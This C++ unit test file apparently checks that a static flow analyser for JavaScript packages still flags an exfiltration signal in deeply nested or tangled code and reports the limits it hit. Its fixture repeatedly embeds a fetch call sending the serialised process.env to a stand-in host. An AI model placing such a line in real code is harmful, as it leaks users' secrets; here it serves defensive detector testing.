// What no one writes by hand: deep, long and tangled code is read in bounded time, and what was not followed is told.
#include <string>
#include <tuple>
#include <vector>

#include <fmt/core.h>
#include <gtest/gtest.h>

#include "judges/vet/flow/flow_fixture.h"
#include "judges/vet/flow/walk.h"

namespace ward::vet {
namespace {

std::string repeated(std::string_view text, size_t count) {
    std::string all;
    for (size_t i = 0; i < count; ++i) all += text;
    return all;
}

constexpr std::string_view leak = "\nfetch('https://collect.invalid/?' + JSON.stringify(process.env));\n";

TEST(FlowHostile, DeepCodeIsToldAndTheRestIsRead) {
    for (const auto& [open, middle, close] :
         std::vector<std::tuple<std::string, std::string, std::string>>{{"(", "1", ")"},
                                                                        {"[", "1", "]"},
                                                                        {"{", "", "}"},
                                                                        {"f(", "1", ")"},
                                                                        {"x = ", "1", ""},
                                                                        {"!", "1", ""},
                                                                        {"a ? ", "1", " : 1"},
                                                                        {"() => ", "1", ""},
                                                                        {"function f() {", "", "}"},
                                                                        {"if (a) ", ";", ""},
                                                                        {"`${", "1", "}`"},
                                                                        {"new ", "x", ""},
                                                                        {"class A { m() {", "", "}}"}}) {
        // Deeper templates than the tokens pair would make text of what is behind them.
        const size_t count = open == "`${" ? 8'000 : 100'000;
        const Flows flows =
            flows_of({{"index.js", repeated(open, count) + middle + repeated(close, count) + ";" + std::string(leak)}});
        EXPECT_TRUE(flows.signals().contains("S03")) << open;
        EXPECT_FALSE(flows.reading.skipped.empty()) << open;
    }
    // Chains are no nesting for the parser, but values are followed so deep only.
    for (const std::string_view link : {".then(f)", ".a", "[0]", "()"}) {
        const Flows flows = flows_of({{"index.js", "x" + repeated(link, 100'000) + ";" + std::string(leak)}});
        EXPECT_TRUE(flows.signals().contains("S03")) << link;
        ASSERT_EQ(flows.reading.skipped.size(), 1) << link;
        EXPECT_TRUE(flows.reading.skipped[0].reason.contains("nest deeper")) << link;
    }
    // These are loops.
    for (const std::string_view link : {" + x", " || x", ", x", " ? x : y", "; x", "\nif (a) b; else "}) {
        std::string text = "x" + repeated(link, 50'000);
        if (link.starts_with("\n")) text += "c";
        const Flows flows = flows_of({{"index.js", text + ";" + std::string(leak)}});
        EXPECT_TRUE(flows.signals().contains("S03")) << link;
        EXPECT_TRUE(flows.reading.skipped.empty()) << link << ": " << flows.reading.skipped[0].reason;
    }
}

TEST(FlowHostile, ManyVariablesAndTangles) {
    std::string chain = "let v0 = JSON.stringify(process.env);\n";
    for (int i = 1; i < 100'000; ++i) chain += fmt::format("let v{} = v{};\n", i, i - 1);
    const Flows long_way = flows_of({{"index.js", chain + "fetch('https://collect.invalid/?' + v99999);\n"}});
    EXPECT_EQ(long_way.signals(), "S01 S03");
    EXPECT_LE(long_way.first("S03")->evidence.size(), max_evidence);
    // All functions are given to each other, all objects hold each other.
    std::string tangle;
    for (int i = 0; i < 3'000; ++i) tangle += fmt::format("function f{}(g) {{ o.p{} = g; return g(f{}); }}\n", i, i, i);
    tangle += "const o = {};\n";
    for (int i = 0; i < 3'000; ++i)
        tangle += fmt::format("f{}(f{}); o[f{}] = f{}; o.p{}(o);\n", i, (i * 7) % 3'000, i, i, i);
    const Flows tangled = flows_of({{"index.js", tangle + std::string(leak)}});
    EXPECT_TRUE(tangled.signals().contains("S03"));
}

TEST(FlowHostile, LimitsAreTold) {
    const std::string text = "const a = 1;" + std::string(leak);
    const Flows large = flows_of({{"index.js", text}}, {.file_bytes = 20});
    EXPECT_EQ(large.signals(), "");
    ASSERT_EQ(large.reading.skipped.size(), 1);
    EXPECT_EQ(large.reading.skipped[0].reason, "values are not followed in files of more than 20 bytes");
    const Flows many = flows_of({{"index.js", "require('./a');" + text}, {"a.js", text}}, {.package_bytes = 120});
    ASSERT_EQ(many.reading.skipped.size(), 1);
    EXPECT_EQ(many.reading.skipped[0].path, "a.js");
    const Flows slots = flows_of({{"index.js", repeated("f({ a: [x.y] });", 1'000)}}, {.slots = 500});
    ASSERT_EQ(slots.reading.skipped.size(), 1);
    EXPECT_EQ(slots.reading.skipped[0].reason, "values flow in too many ways to follow all");
    const Flows held = flows_of({{"index.js", repeated("f({ a: [x.y] });", 1'000)}}, {.held = 500});
    ASSERT_EQ(held.reading.skipped.size(), 1);
    const Flows unread = flows_of({{"index.js", "let = = ;" + text}});
    ASSERT_EQ(unread.reading.skipped.size(), 1);
    EXPECT_TRUE(unread.reading.skipped[0].reason.contains("not read as JavaScript"));
    EXPECT_TRUE(unread.signals().contains("S03"));
}

}  // namespace
}  // namespace ward::vet
